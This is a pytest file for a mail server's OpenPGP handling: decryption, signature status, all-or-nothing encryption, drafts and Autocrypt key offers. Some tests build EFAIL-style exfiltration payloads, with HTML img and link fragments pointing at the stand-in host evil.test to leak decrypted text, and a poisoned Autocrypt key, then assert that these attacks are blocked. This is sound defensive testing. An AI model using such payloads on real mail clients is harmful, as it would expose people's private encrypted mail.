"""OpenPGP in the mail of an account: read alone and in words, written for all or not at all."""

from datetime import UTC, datetime

import pytest

from mailstead.mime.composition import Attached, Composition, Correspondent, compose
from mailstead.mime.header import header_end
from mailstead.mime.openpgp_mail import autocrypt_field, encrypted_message, protected, signed_message
from mailstead.model.errors import NoSuchMessage, PolicyRefused
from mailstead.model.openpgp import KeySource, Signing
from mailstead.usecases import openpgp_engine as engine
from mailstead.usecases.messages import Messages
from mailstead.usecases.openpgp_mail import OpenpgpMail, State
from mailstead.usecases.remote_images import RemoteImages
from mailstead.usecases.shown_messages import ShownMessages
from usecases.openpgp_home import PASSPHRASE, in_session, make_bob, make_keys, make_mailboxes

ALICE, BOB = Correspondent("", "alice@example.test"), Correspondent("Bob", "bob@else.test")
SECRET_TEXT = "The secret word is xyzzy"


@pytest.fixture
def mailboxes(storage, bus, clock):
    return make_mailboxes(storage, bus, clock)


@pytest.fixture
def messages(mailboxes):
    return Messages(mailboxes)


@pytest.fixture
def ring(storage, mailboxes, clock):
    return make_keys(storage, mailboxes, clock)


@pytest.fixture
def mail(storage, mailboxes, ring, clock):
    shown = ShownMessages(mailboxes, RemoteImages(storage, None, clock, b"k" * 32))
    return OpenpgpMail(ring, mailboxes, shown)


@pytest.fixture
def actor(alice, actor_of):
    return in_session(actor_of(alice))


@pytest.fixture
async def own(ring, actor):
    return await ring.make(actor, "Alice", actor.address, PASSPHRASE)


@pytest.fixture(scope="module")
def bob():
    return make_bob()


@pytest.fixture
def put(messages, actor):
    async def put(octets):
        return (await messages.append(actor, "INBOX", octets, [])).place.object_id

    return put


def written(author, *to, text=SECRET_TEXT, **more):
    return compose(
        Composition(datetime(2026, 11, 28, tzinfo=UTC), "<1@else.test>", (author,), to=to, text=text, **more),
        has_bcc=True,
    )


def from_bob(bob, own, *, signs=True, author=BOB, **more):
    made = protected(written(author, ALICE, subject="Plans", **more), hides=True)
    return encrypted_message(made.outer, bob.encrypt(made.inner, [own.public], signs=signs), "mark")


async def test_what_is_encrypted_waits_for_the_passphrase_and_is_then_shown_alone(mail, ring, actor, own, bob, put):
    octets = from_bob(bob, own, attachments=(Attached(b"12345", "numbers.bin"),))
    assert b"xyzzy" not in octets
    object_id = await put(octets)
    ring.lock(actor)
    assert [each.state for each in await mail.readings(actor, object_id)] == [State.LOCKED]
    with pytest.raises(NoSuchMessage):
        await mail.show(actor, object_id, 0)
    await ring.unlock(actor, PASSPHRASE)
    message, files, reading = await mail.show(actor, object_id, 0)
    assert SECRET_TEXT in message.bodies[0].html
    assert (reading.subject, reading.is_whole) == ("Plans", True)
    assert [each.file_name for each in files] == ["numbers.bin"]
    assert (await mail.attachment(actor, object_id, 0, files[0].number))[1] == b"12345"
    assert "xyzzy" not in repr(reading)


async def test_who_has_signed_is_told_in_words(mail, ring, actor, own, bob, put):
    object_id = await put(from_bob(bob, own))

    async def signing():
        (reading,) = await mail.readings(actor, object_id)
        return reading.signing

    assert await signing() is Signing.UNKNOWN_KEY
    await ring.take(actor, bob.public, KeySource.BY_HAND)
    assert await signing() is Signing.GOOD
    await ring.verify(actor, bob.fingerprint)
    assert await signing() is Signing.GOOD_VERIFIED
    for octets, told in (
        (from_bob(bob, own, author=Correspondent("Bob", "eve@else.test")), Signing.GOOD_OTHER),
        (from_bob(bob, own, signs=False), Signing.NONE),
    ):
        (reading,) = await mail.readings(actor, await put(octets))
        assert reading.signing is told


def signed_by(bob, **change):
    made = protected(written(BOB, ALICE, subject="Plans"), hides=False)
    message = signed_message(made.outer, made.inner, bob.sign(made.inner), "mark")
    for old, new in change.items():
        message = message.replace(old.encode(), new.encode())
    return message


@pytest.mark.parametrize(("change", "told"), [({}, Signing.GOOD), ({"xyzzy": "yzzyx"}, Signing.BAD)])
async def test_signed_mail_is_checked(mail, ring, actor, own, bob, put, change, told):
    await ring.take(actor, bob.public, KeySource.BY_HAND)
    (reading,) = await mail.readings(actor, await put(signed_by(bob, **change)))
    assert (reading.state, reading.signing) == (State.SIGNED, told)


@pytest.mark.parametrize("template", ['<img src="https://evil.test/{}">', '<a href="https://evil.test/{}">x</a>'])
async def test_attack_088_direct_exfiltration_meets_a_frame_of_its_own(mail, ring, actor, own, bob, put, template):
    """Clear parts around an encrypted one open an attribute that is to swallow it (CVE-2017-17688)."""
    before, after = template.split("{}")
    inner = from_bob(bob, own).partition(b"MIME-Version: 1.0\r\n")[2]
    octets = (
        b'From: eve@else.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="o"\r\n\r\n'
        b"--o\r\nContent-Type: text/html\r\n\r\n" + before.encode() + b"\r\n--o\r\n" + inner
        + b"\r\n--o\r\nContent-Type: text/html\r\n\r\n" + after.encode() + b"\r\n--o--\r\n"
    )  # fmt: skip
    object_id = await put(octets)
    message, _, reading = await mail.show(actor, object_id, 0)
    document = message.document()
    assert SECRET_TEXT in document
    assert "evil.test" not in document
    assert not reading.is_whole
    around = await ShownMessages.show(mail._shown, actor, object_id, loads_remote=True)
    assert "xyzzy" not in around.message.document()


async def test_attack_088_what_was_decrypted_loads_nothing_from_elsewhere(mail, actor, own, bob, put):
    html = f'<p>{SECRET_TEXT}</p><img src="https://evil.test/p.png"><link rel=stylesheet href="https://evil.test/c">'
    message, _, _ = await mail.show(actor, await put(from_bob(bob, own, html=html)), 0)
    assert message.blocked.remote_count == 2
    assert not message.has_remote
    assert "evil.test" not in message.document()


async def test_attack_088_a_message_that_was_changed_shows_nothing(mail, actor, own, bob, put):
    octets = from_bob(bob, own)
    at = octets.index(b"-----END PGP MESSAGE") - 60
    changed = octets[:at] + (b"A" if octets[at : at + 1] != b"A" else b"B") + octets[at + 1 :]
    (reading,) = await mail.readings(actor, await put(changed))
    assert reading.state is State.FLAWED
    assert reading.flaw
    assert reading.entity == b""


async def test_text_in_the_old_form_is_read_alone(mail, actor, own, bob, put):
    block = bob.encrypt(SECRET_TEXT.encode(), [own.public], signs=False).decode()
    object_id = await put(written(BOB, ALICE, text=block))
    message, _, _ = await mail.show(actor, object_id, 0)
    assert SECRET_TEXT in message.document()
    around = written(BOB, ALICE, text=f"Please answer with all of this:\n{block}")
    assert await mail.readings(actor, await put(around)) == []


async def test_without_a_key_nothing_is_asked_for(mail, actor, bob, put, ring):
    other = make_bob("Alice <alice@example.test>")
    made = protected(written(BOB, ALICE), hides=True)
    octets = encrypted_message(made.outer, bob.encrypt(made.inner, [other.public], signs=False), "mark")
    object_id = await put(octets)
    assert [each.state for each in await mail.readings(actor, object_id)] == [State.NO_KEY]
    await ring.make(actor, "Alice", actor.address, PASSPHRASE)
    (reading,) = await mail.readings(actor, object_id)
    assert (reading.state, "not encrypted for the key" in reading.flaw) == (State.FLAWED, True)
    assert await mail.readings(actor, await put(written(BOB, ALICE))) == []


async def test_it_is_encrypted_for_all_or_not_at_all(mail, ring, actor, own, bob):
    octets = written(ALICE, BOB, Correspondent("", "carol@else.test"), subject="Größe")
    assert await mail.lacking(actor, octets) == ["bob@else.test", "carol@else.test"]
    await ring.take(actor, bob.public, KeySource.BY_HAND)
    with pytest.raises(PolicyRefused, match=r"carol@else\.test"):
        await mail.protect(actor, octets, signs=True, encrypts=True)
    sent = await mail.protect(actor, written(ALICE, BOB, subject="Größe"), signs=True, encrypts=True)
    assert b"xyzzy" not in sent
    assert b"Gr" not in sent[: header_end(sent)].partition(b"Autocrypt")[0]
    payload = sent[sent.index(b"-----BEGIN PGP MESSAGE") :]
    payload = payload[: payload.index(b"\r\n--=_")]
    at_bob = bob.decrypt(payload, [own.public])
    assert SECRET_TEXT.encode() in at_bob.octets
    assert at_bob.signer == own.fingerprint
    (mine,) = [each for each in ring.unlocked(actor) if each.fingerprint == own.fingerprint]
    assert SECRET_TEXT.encode() in mine.decrypt(payload).octets  # also for oneself


async def test_blind_copies_are_refused(mail, ring, actor, own, bob):
    await ring.take(actor, bob.public, KeySource.BY_HAND)
    with pytest.raises(PolicyRefused, match="Blind"):
        await mail.protect(actor, written(ALICE, BOB, bcc=(BOB,)), signs=False, encrypts=True)


async def test_signing_asks_for_a_key_and_its_passphrase(mail, ring, actor):
    octets = written(ALICE, BOB)
    with pytest.raises(PolicyRefused, match="no key yet"):
        await mail.protect(actor, octets, signs=True, encrypts=False)
    await ring.make(actor, "Alice", actor.address, PASSPHRASE)
    ring.lock(actor)
    with pytest.raises(PolicyRefused, match="locked"):
        await mail.protect(actor, octets, signs=True, encrypts=False)
    assert await mail.protect(actor, octets, signs=False, encrypts=False) == octets


async def test_what_is_signed_here_is_good_to_others_and_brings_the_key_along(mail, ring, actor, own, put):
    sent = await mail.protect(actor, written(ALICE, BOB), signs=True, encrypts=False)
    (reading,) = await mail.readings(actor, await put(sent))
    assert reading.signing is Signing.GOOD_VERIFIED
    assert b"Autocrypt: addr=alice@example.test" in sent


async def test_a_draft_is_kept_for_oneself_and_comes_back_with_its_blind_copies(mail, ring, actor, own, bob):
    octets = written(ALICE, BOB, bcc=(Correspondent("", "eve@else.test"),), subject="Größe")
    ring.lock(actor)
    kept = await mail.draft(actor, octets)  # writing needs no passphrase
    assert b"xyzzy" not in kept
    with pytest.raises(PolicyRefused, match="unlock"):
        await mail.opened_draft(actor, kept)
    await ring.unlock(actor, PASSPHRASE)
    again, was_encrypted, was_signed = await mail.opened_draft(actor, kept)
    assert (was_encrypted, was_signed) == (True, False)
    assert SECRET_TEXT.encode() in again
    assert b"Bcc: eve@else.test\r\n" in again
    assert await mail.opened_draft(actor, octets) == (octets, False, False)
    await ring.take(actor, bob.public, KeySource.BY_HAND)
    for encrypts in (True, False):  # sent, and taken back
        sent = await mail.protect(actor, written(ALICE, BOB), signs=True, encrypts=encrypts)
        assert (await mail.opened_draft(actor, sent))[1:] == (encrypts, True)


async def test_attack_103_a_key_that_comes_with_a_message_is_offered_and_a_change_told(mail, ring, actor, bob, put):
    octets = autocrypt_field("bob@else.test", bob.public) + written(BOB, ALICE)
    object_id = await put(octets)
    (offered,) = await mail.offered(actor, object_id)
    assert (offered.fingerprint, offered.is_change) == (bob.fingerprint, False)
    assert (await ring.find(actor)).others == []  # not taken by itself
    await mail.take_offered(actor, object_id, bob.fingerprint)
    assert await mail.offered(actor, object_id) == []
    eve = make_bob()
    poisoned = await put(autocrypt_field("bob@else.test", eve.public) + written(BOB, ALICE))
    (offered,) = await mail.offered(actor, poisoned)
    assert offered.is_change
    with pytest.raises(PolicyRefused):
        await mail.take_offered(actor, poisoned, bob.fingerprint)
    of_another = await put(autocrypt_field("eve@else.test", bob.public) + written(Correspondent("", "eve@else.test")))
    assert await mail.offered(actor, of_another) == []


async def test_a_page_is_told_all_at_once(mail, actor, own, bob, put, ring):
    octets = autocrypt_field("bob@else.test", bob.public) + from_bob(bob, own, attachments=(Attached(b"1", "a.bin"),))
    for object_id, states, names in (
        (await put(octets), [State.SHOWN], [["a.bin"]]),
        (await put(autocrypt_field("bob@else.test", bob.public) + written(BOB, ALICE)), [], []),
        (await put(autocrypt_field("bob@else.test", bob.public) + signed_by(bob)), [State.SIGNED], [[]]),
    ):
        look = await mail.look(actor, await mail._shown.show(actor, object_id))
        assert [each.state for each in look.readings] == states
        assert [[file.file_name for file in files] for files in look.files] == names
        assert [each.fingerprint for each in look.offered] == [bob.fingerprint]


async def test_attached_keys_are_offered(mail, actor, bob, put):
    key = Attached(engine.armored(bob.public).encode(), "key.asc", "application/pgp-keys")
    (offered,) = await mail.offered(actor, await put(written(BOB, ALICE, attachments=(key,))))
    assert offered.fingerprint == bob.fingerprint


async def test_attack_092_mail_of_others_is_not_there(mail, actor, own, bob, put, accounts, admin, actor_of):
    from mailstead.model.address import Address
    from mailstead.model.secret import Secret

    object_id = await put(from_bob(bob, own))
    other = actor_of(await accounts.create(admin, Address.parse("bob@example.test"), Secret("pw-never-in-a-log-bob")))
    with pytest.raises(NoSuchMessage):
        await mail.readings(in_session(other), object_id)
